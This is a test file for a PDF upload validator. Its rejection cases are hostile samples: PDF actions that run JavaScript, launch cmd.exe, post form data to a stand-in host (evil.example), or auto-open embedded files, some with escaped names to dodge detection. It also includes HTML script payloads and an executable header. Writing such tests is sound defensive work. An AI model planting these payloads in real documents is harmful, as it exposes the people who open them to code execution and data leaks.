import { expect, it } from 'vitest'
import { findDocumentError, maxDocumentBytes } from './document-file.ts'

const pdf = (body = '') => Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`)

it.each([
  ['an empty file', Buffer.alloc(0), /empty/],
  ['an HTML page named as a PDF', Buffer.from('<!doctype html><script>alert(1)</script>'), /no whole PDF/],
  ['an executable', Buffer.from('MZ\u0090\u0000'), /no whole PDF/],
  ['a truncated file', Buffer.from('%PDF-1.7\n1 0 obj'), /no whole PDF/],
  ['a PDF header that comes too late', Buffer.concat([Buffer.alloc(2000), pdf()]), /no whole PDF/],
  ['a script', pdf('<< /S /JavaScript /JS (app.alert(1)) >>'), /carries a program/],
  ['a launch action', pdf('<< /S /Launch /F (cmd.exe) >>'), /carries a program/],
  ['a script with an escaped name', pdf('<< /S /J#61vaScript >>'), /carries a program/],
  ['a launch action with an escaped name', pdf('<< /S /L#61unch >>'), /carries a program/],
  ['a form that submits to another host', pdf('<< /S /SubmitForm /F (https://evil.example) >>'), /carries a program/],
  ['an embedded file that opens on its own', pdf('<< /S /GoToE >>'), /carries a program/],
  ['an HTML page before the PDF', Buffer.concat([Buffer.from('<script>alert(1)</script>'), pdf()]), /no whole PDF/],
  ['a file that is too large', Buffer.concat([pdf(), Buffer.alloc(maxDocumentBytes), pdf()]), /10 MB/],
])('the document check rejects a file and names the reason (file: %s)', (_, file, why) => {
  expect(findDocumentError(file)).toMatch(why)
})
it('the document check accepts a PDF with other bytes before its header', () => {
  expect(findDocumentError(pdf())).toBeUndefined()
  expect(findDocumentError(Buffer.concat([Buffer.from('\n\n'), pdf()]))).toBeUndefined()
})
